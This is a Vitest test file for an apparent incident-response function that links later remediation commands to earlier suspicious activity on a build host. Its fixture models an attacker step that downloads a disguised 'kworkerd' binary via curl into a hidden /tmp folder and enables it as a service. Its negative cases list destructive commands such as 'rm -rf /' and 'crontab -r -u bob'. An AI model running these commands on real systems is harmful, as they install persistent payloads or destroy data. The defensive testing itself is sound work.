import { expect, test } from 'vitest';
import { actGroup } from '../../../test/act-group-fixture.ts';
import { commandAnswers } from './command-answers.ts';

const ran = (command: string, time: string, actorName = 'olga', host = 'build-1.example.com') =>
  actGroup({ verb: 'execute', actorName, host, command, time, last: time, citations: [{ ref: time, time }] });
const own = [
  ran('curl -o /tmp/.x/kworkerd http://203.0.113.9/k', '2026-03-04T10:00:00Z', 'deploy', 'build-1'),
  ran('systemctl enable --now kworkerd.service', '2026-03-04T10:01:00Z', 'deploy', 'build-1'),
];
const later = '2026-03-04T12:00:00Z';

test.each([
  ['sudo systemctl disable --now kworkerd', 'stop'],
  ['pkill kworkerd', 'stop'],
  ['rm -rf /tmp/.x/', 'delete'],
  ['usermod -L deploy', 'disable-credential'],
])('%s answers what he left', (command, verb) => {
  expect(commandAnswers([ran(command, later)], own)).toMatchObject([{ verb, command }]);
});

test.each(['systemctl stop nginx', 'pkill nginx', 'rm -rf /', 'rm /usr/bin/curl', 'userdel bob', 'crontab -r -u bob'])(
  '%s does not',
  (command) => {
    expect(commandAnswers([ran(command, later)], own)).toEqual([]);
  },
);

test('on another machine it answers nothing', () => {
  expect(commandAnswers([ran('pkill kworkerd', later, 'olga', 'build-2')], own)).toEqual([]);
});

test('what several logs tell of one command is one answer, and the same again later another', () => {
  const twice = [
    ran('sudo pkill kworkerd', later),
    ran('/usr/bin/pkill kworkerd', '2026-03-04T12:00:01Z'),
    ran('pkill kworkerd', '2026-03-04T12:10:00Z'),
  ];

  expect(commandAnswers(twice, own).map(({ citations }) => citations.map(({ ref }) => ref))).toEqual([
    [later, '2026-03-04T12:00:01Z'],
    ['2026-03-04T12:10:00Z'],
  ]);
});
